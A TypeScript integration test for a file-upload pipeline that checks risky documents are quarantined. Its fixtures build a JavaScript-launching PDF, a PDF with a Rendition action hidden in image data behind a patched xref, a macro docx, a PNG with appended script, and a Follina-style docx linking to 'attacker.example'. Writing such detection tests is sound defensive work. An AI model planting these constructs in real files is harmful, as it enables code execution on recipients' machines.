import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ACTIVE_CONTENT_REASONS, objectKey, QUARANTINE_REASONS } from "@intake/domain";
import { ACTIVE_CONTENT_KINDS, ConfigError, loadConfig } from "@intake/runtime";
import { docx, pdf, pdfOf, png, zip } from "./fixtures.ts";
import { sha256Of, startPipelineStack, type PipelineStack } from "./support/stack.ts";

/**
 * Active content through the whole stack (API, fauxqs with its S3 events, SQS, ingest,
 * inspect, scan with the real clamd, finalize): refused by default with its own reason, let
 * through only when ACTIVE_CONTENT_ALLOW names that reason.
 */


const PAGES = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"];

/** A one-page PDF whose catalog runs JavaScript when the document opens. */
function pdfWithOpenActionJavaScript(): Buffer {
  return pdfOf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", ...PAGES, "<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\);) >>"]);
}

/**
 * A PDF whose OpenAction is a Rendition action running JavaScript (its /JS), the action
 * placed inside an image's stream data where the cross-reference table points at it.
 */
function pdfWithHiddenRendition(): Buffer {
  const hidden = "4 0 obj << /S /Rendition /OP 4 /JS (app.alert\\(1\\)) >> endobj ";
  const data = `\xff\xd8${hidden}\xff\xd9`;
  const file = pdfOf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", ...PAGES, `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode /Length ${data.length} >>\nstream\n${data}\nendstream`]);
  const at = file.indexOf("4 0 obj << /S /Rendition");
  const xref = file.indexOf("xref\n");
  const table = file.toString("latin1", xref).split("\n");
  table[2 + 4] = `${String(at).padStart(10, "0")} 00000 n `; // object 4: the action inside the image data
  return Buffer.concat([file.subarray(0, xref), Buffer.from(table.join("\n"), "latin1")]);
}

const PDF = "application/pdf";
const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

describe("active content policy (configuration)", () => {
  it("lists the same kinds in the configuration as the domain's allowable reasons", () => {
    expect([...ACTIVE_CONTENT_KINDS]).toEqual([...ACTIVE_CONTENT_REASONS]);
    for (const r of ACTIVE_CONTENT_REASONS) expect(QUARANTINE_REASONS).toContain(r);
  });

  it("allows nothing by default and refuses an unknown kind", () => {
    expect(loadConfig({ S3_BUCKET: "intake-uploads" }).policy.activeContentAllow).toEqual([]);
    expect(loadConfig({ S3_BUCKET: "intake-uploads", ACTIVE_CONTENT_ALLOW: "PDF_JavaScript, trailing_data" }).policy.activeContentAllow).toEqual(["pdf_javascript", "trailing_data"]);
    for (const bad of ["pdf_js", "unscannable", "malware"]) {
      let err: unknown;
      try {
        loadConfig({ S3_BUCKET: "intake-uploads", ACTIVE_CONTENT_ALLOW: `pdf_javascript,${bad}` });
      } catch (e) {
        err = e;
      }
      expect(err, bad).toBeInstanceOf(ConfigError);
      expect((err as ConfigError).problems).toEqual([expect.stringMatching(new RegExp(`^ACTIVE_CONTENT_ALLOW: unknown kind ${bad} `))]);
    }
  });
});

describe("active content through the pipeline (fauxqs, sqlite)", () => {
  let s: PipelineStack;
  beforeAll(async () => {
    s = await startPipelineStack({ storage: "fauxqs", database: "sqlite", workerRoles: null });
  });
  afterAll(async () => s?.close());

  const settle = async (bytes: Buffer, contentType: string) => {
    // The complete call enqueues inspect itself, so a worker restarted between the tests
    // does not wait for SQS to redeliver an event its predecessor had received.
    const { id } = await s.upload(bytes, { contentType, sha256: sha256Of(bytes), complete: true });
    return { id, done: await s.waitFor(id, ["verified", "quarantined"]) };
  };

  it("by default quarantines a PDF with JavaScript (pdf_javascript), a macro docx and a PNG with trailing data; a clean PDF is verified", async () => {
    await s.startWorker();
    const js = await settle(pdfWithOpenActionJavaScript(), PDF);
    expect({ status: js.done.status, reason: js.done.reason, detail: js.done.reasonDetail }).toEqual({ status: "quarantined", reason: "pdf_javascript", detail: "PDF with JavaScript (/JavaScript)" });
    expect(js.done.finalKey).toBe(objectKey("quarantine", s.tenant, js.id));
    expect((await s.download(js.id)).status).toBe(409);

    const macros = await settle(zip([{ name: "[Content_Types].xml", data: docxContentTypes }, { name: "word/document.xml", data: "<w:document/>" }, { name: "word/vbaProject.bin", data: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) }]), DOCX);
    expect({ status: macros.done.status, reason: macros.done.reason }).toEqual({ status: "quarantined", reason: "office_macros" });

    const trailing = await settle(Buffer.concat([png(8, 8), Buffer.from("<script>alert(1)</script>")]), "image/png");
    expect({ status: trailing.done.status, reason: trailing.done.reason, detail: trailing.done.reasonDetail }).toEqual({ status: "quarantined", reason: "trailing_data", detail: "25 bytes after the PNG's IEND chunk" });

    for (const [bytes, type] of [[pdf("clean"), PDF], [docx(), DOCX], [png(8, 8), "image/png"]] as const) {
      const clean = await settle(bytes, type);
      expect({ type, status: clean.done.status, reason: clean.done.reason }).toEqual({ type, status: "verified", reason: null });
    }
  });

  it("with ACTIVE_CONTENT_ALLOW=pdf_javascript verifies the JavaScript PDF, and still quarantines what is not allowed", async () => {
    await s.stopWorkers();
    await s.startWorker("inspect,scan,finalize", {}, { ACTIVE_CONTENT_ALLOW: "pdf_javascript" });
    const bytes = pdfWithOpenActionJavaScript();
    const js = await settle(bytes, PDF);
    expect({ status: js.done.status, reason: js.done.reason }).toEqual({ status: "verified", reason: null });
    const got = await s.download(js.id);
    expect(got.bytes.equals(bytes)).toBe(true);

    const trailing = await settle(Buffer.concat([png(8, 8), Buffer.from([0])]), "image/png");
    expect({ status: trailing.done.status, reason: trailing.done.reason }).toEqual({ status: "quarantined", reason: "trailing_data" });
  });

  it("quarantines a docx with an external oleObject relationship (Follina) and a PDF with a Rendition action hidden in image data", async () => {
    await s.stopWorkers();
    await s.startWorker(); // the default policy: nothing allowed
    const rels = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://attacker.example/x.html!" TargetMode="External"/></Relationships>';
    const follina = zip([{ name: "[Content_Types].xml", data: docxContentTypes }, { name: "word/document.xml", data: "<w:document/>" }, { name: "word/_rels/document.xml.rels", data: rels }]);
    for (const [bytes, type, reason] of [[follina, DOCX, "office_ole_object"], [pdfWithHiddenRendition(), PDF, "pdf_javascript"]] as const) {
      const { done } = await settle(Buffer.from(bytes), type);
      expect({ type, status: done.status, reason: done.reason }).toEqual({ type, status: "quarantined", reason });
    }
  });
});

const docxContentTypes =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
